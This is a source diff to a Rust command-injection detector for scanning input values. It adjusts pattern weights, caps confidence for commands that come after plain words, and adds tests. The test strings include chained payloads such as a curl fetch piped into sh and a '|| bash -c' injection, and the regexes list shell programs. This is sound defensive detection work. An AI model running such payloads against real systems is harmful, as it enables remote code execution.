@@ -8,6 +8,11 @@ use super::words::Words;
 use super::{Family, Part};
 use crate::decode::{kind, percent, Value};
 
+/// Words before a command from which on it may be told about.
+const WORDS: usize = 3;
+/// Most that a command is worth then: enough to refuse, and never with high confidence.
+const TOLD: f32 = 0.5;
+
 /// The detector of this family.
 pub struct CommandInjection;
 
@@ -43,7 +48,7 @@ static PATTERNS: Patterns = Patterns::new(&[
     ),
     pattern(
         "command.chained",
-        0.75,
+        0.8,
         0.2,
         concat!("(?:(?:[;|]|&&?|\\$\\(|[<>]\\()[\\s\"'({]*|`)(?:[\\w./\\\\:-]*[/\\\\])?", words!(), "(?:\\s*(?:[;|&<>)`#\"'\\n]|$)|[\\s,]+(?:[-/$.~*\"'>%+\\\\]|[a-z]:\\\\|[\\w.]*[0-9/_.]|\\S+\\s*[#>|&;]))"),
     ),
@@ -69,8 +74,10 @@ static PATTERNS: Patterns = Patterns::new(&[
         "command.program",
         0.6,
         0.0,
-        concat!("^\\s*[\"']?(?:", programs!(), "\\s+(?:-|/|https?:|\\$|[\"'<>|#]|[\\w-]+\\.\\w)|(?:cat|ls|rm|find|echo|type|dir|head|tail|nl|tac|less|more|cp|mv|grep|sed|source|touch|cd)\\s+(?:-[a-z]|/|\\$|\\.\\.?/|~|[\"'<>|]|[a-z]:\\\\))"),
+        concat!("^\\s*[\"']?(?:", programs!(), "\\s+(?:-|/|https?:|\\$|[\"'<>|#]|[\\w-]+\\.\\w)|echo\\s+(?:-[a-z]|/|\\$|\\.\\.?/|~|[<>|]|[a-z]:\\\\)|(?:cat|ls|rm|find|type|dir|head|tail|nl|tac|less|more|cp|mv|grep|sed|source|touch|cd)\\s+(?:-[a-z]|/|\\$|\\.\\.?/|~|[\"'<>|]|[a-z]:\\\\))"),
     ),
+    // What only prints something is a line of many a script.
+    pattern("command.program", 0.5, 0.0, "^\\s*[\"']?echo\\s+[\"']"),
     pattern(
         "command.program",
         0.5,
@@ -238,11 +245,22 @@ impl Detector for CommandInjection {
         {
             return;
         }
+        if is_told(value.bytes) {
+            report.most = TOLD;
+        }
         PATTERNS.judge(value, value.bytes, report);
         if let Some(plain) = unquote(value.bytes) {
             PATTERNS.judge(value, &plain, report);
         }
     }
+}
+
+/// Tells whether words stand before what a shell would read: a command in a sentence may be told
+/// about, while a break follows what an application expects.
+fn is_told(text: &[u8]) -> bool {
+    let words = text.split(|b| *b == b' ');
+    let plain = |word: &&[u8]| !word.is_empty() && word.iter().all(u8::is_ascii_alphabetic);
+    words.take_while(plain).take(WORDS).count() == WORDS
 }
 
 /// Undoes what a shell removes: backslashes and carets before letters, quotes within words, empty
@@ -356,6 +374,18 @@ mod tests {
         ] {
             assert!(score(&CommandInjection, text) >= 0.5, "{text}");
         }
+    }
+
+    #[test]
+    fn commands_in_sentences_are_never_certain() {
+        for text in [
+            "Run the tests || bash -c x",
+            "please have a look; curl http://a.example/x | sh",
+        ] {
+            let score = score(&CommandInjection, text);
+            assert!((0.5..0.6).contains(&score), "{text}: {score}");
+        }
+        assert!(score(&CommandInjection, "x y || bash -c x") > 0.6);
     }
 
     #[test]
